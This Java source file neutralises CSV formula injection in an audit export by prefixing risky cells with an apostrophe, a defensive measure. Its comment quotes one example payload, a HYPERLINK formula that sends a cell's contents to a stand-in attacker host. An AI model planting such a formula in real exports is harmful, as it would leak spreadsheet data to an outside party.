package io.resolutionledger.query.auditing;

/**
 * CSV injection (formula injection): a spreadsheet that opens the export runs a cell that begins with {@code =},
 * {@code +}, {@code -} or {@code @} (or a tab or carriage return before one) as a formula, e.g. a resolution title
 * {@code =HYPERLINK("https://evil.example/?"&A1)} that an auditor's spreadsheet would follow. Such a cell is written
 * with a leading apostrophe, which spreadsheets show as text and never evaluate (OWASP's advice). The line hash of
 * the export covers the cell as written.
 */
final class CsvCells {

    private CsvCells() {
    }

    static String neutralise(String cell) {
        if (cell.isEmpty()) {
            return cell;
        }
        char first = cell.charAt(0);
        return first == '=' || first == '+' || first == '-' || first == '@' || first == '\t' || first == '\r'
                ? "'" + cell : cell;
    }
}
